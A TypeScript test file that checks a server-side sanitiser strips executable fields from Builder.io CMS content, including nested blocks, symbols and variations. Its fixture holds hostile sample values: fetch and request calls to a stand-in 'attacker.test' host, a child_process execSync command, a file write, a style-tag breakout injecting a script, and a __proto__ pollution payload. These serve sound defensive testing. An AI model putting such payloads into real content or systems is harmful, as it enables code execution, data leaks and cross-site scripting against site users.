import { describe, expect, it } from 'vitest';
import { blockCodeFields, contentCodeFields, withoutContentCode } from './stripCode';

const element = '@builder.io/sdk:Element' as const;

/** Code in every place Builder's content format lets it hide, beside the data the page needs. */
function hostileEntry() {
  const codeOfBlock = {
    bindings: { 'component.options.title': 'process.exit(1)' },
    code: {
      bindings: { 'component.options.title': 'process.exit(2)' },
      actions: { click: 'process.exit(3)' },
    },
    actions: { click: 'fetch("https://attacker.test/click")' },
    repeat: { collection: 'process.getBuiltinModule("child_process").execSync("id")', itemName: 'item' },
  };
  const symbolContent = {
    id: 'symbol-entry',
    data: {
      jsCode: 'globalThis.ranInSymbol = true',
      httpRequests: { leak: 'https://attacker.test/symbol' },
      blocks: [
        {
          '@type': element,
          id: 'in-symbol',
          ...codeOfBlock,
          component: { name: 'Hero', options: { title: 'Symbol hero' } },
        },
      ],
    },
  };
  return {
    id: 'hostile',
    data: {
      title: 'Hostile',
      url: '/hostile',
      jsCode: 'process.getBuiltinModule("fs").writeFileSync("/tmp/marker", "ran")',
      tsCode: 'process.exit(4)',
      httpRequests: { leak: 'https://attacker.test/content' },
      cssCode: '</style><script>alert(1)</script>',
      state: { greeting: 'hello' },
      blocks: [
        {
          '@type': element,
          id: 'outer',
          ...codeOfBlock,
          responsiveStyles: { large: { color: 'red' } },
          children: [
            // No @type: a list of children holds blocks all the same, and the SDK would evaluate their bindings.
            {
              id: 'child',
              ...codeOfBlock,
              component: { name: 'RichText', options: { html: '<p>Kept</p>' } },
            },
          ],
        },
        {
          '@type': element,
          id: 'symbol',
          component: {
            name: 'Symbol',
            options: { symbol: { entry: 'symbol-entry', data: { jsCode: 'x' }, content: symbolContent } },
          },
        },
      ],
    },
    variations: {
      bold: {
        id: 'bold',
        testRatio: 0.5,
        data: {
          jsCode: 'globalThis.ranInVariation = true',
          httpRequests: { leak: 'https://attacker.test/variation' },
          blocks: [
            {
              '@type': element,
              id: 'variant',
              ...codeOfBlock,
              component: { name: 'Hero', options: { title: 'Bold' } },
            },
          ],
        },
      },
    },
  };
}

/** Every key path in a JSON value, for finding a forbidden field wherever it is. */
function keyPaths(value: unknown, path = ''): string[] {
  if (Array.isArray(value)) return value.flatMap((item, index) => keyPaths(item, `${path}[${index}]`));
  if (!value || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, child]) => [
    `${path}.${key}`,
    ...keyPaths(child, `${path}.${key}`),
  ]);
}

describe('executable fields are stripped from Builder content on the server', () => {
  it('content code: jsCode, tsCode, httpRequests and cssCode are gone from the page, its variations and nested symbols', () => {
    const paths = keyPaths(withoutContentCode(hostileEntry()));
    for (const field of contentCodeFields)
      expect(
        paths.filter((path) => path.endsWith(`.${field}`)),
        field,
      ).toEqual([]);
  });

  it('block code: bindings, code (bindings and actions), actions and repeat are gone from every block at every depth', () => {
    const paths = keyPaths(withoutContentCode(hostileEntry()));
    for (const field of blockCodeFields)
      expect(
        paths.filter((path) => path.endsWith(`.${field}`)),
        field,
      ).toEqual([]);
  });

  it('the data the page renders is kept: ids, titles, blocks, options, styles, state, variations', () => {
    const stripped = withoutContentCode(hostileEntry());
    expect(stripped).toMatchObject({
      id: 'hostile',
      data: {
        title: 'Hostile',
        state: { greeting: 'hello' },
        blocks: [
          {
            id: 'outer',
            responsiveStyles: { large: { color: 'red' } },
            children: [{ id: 'child', component: { name: 'RichText', options: { html: '<p>Kept</p>' } } }],
          },
          {
            id: 'symbol',
            component: { options: { symbol: { content: { data: { blocks: [{ id: 'in-symbol' }] } } } } },
          },
        ],
      },
      variations: { bold: { id: 'bold', testRatio: 0.5, data: { blocks: [{ id: 'variant' }] } } },
    });
  });

  it('never mutates the content it was given', () => {
    const entry = hostileEntry();
    const before = structuredClone(entry);
    withoutContentCode(entry);
    expect(entry).toEqual(before);
  });

  it('a __proto__ key in the JSON stays a plain key and changes no prototype', () => {
    const parsed = JSON.parse('{"id":"p","data":{"blocks":[{"__proto__":{"polluted":true},"id":"b"}]}}') as {
      data: { blocks: object[] };
    };
    const stripped = withoutContentCode(parsed);
    expect(Object.getPrototypeOf(stripped.data.blocks[0])).toBe(Object.prototype);
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  });
});
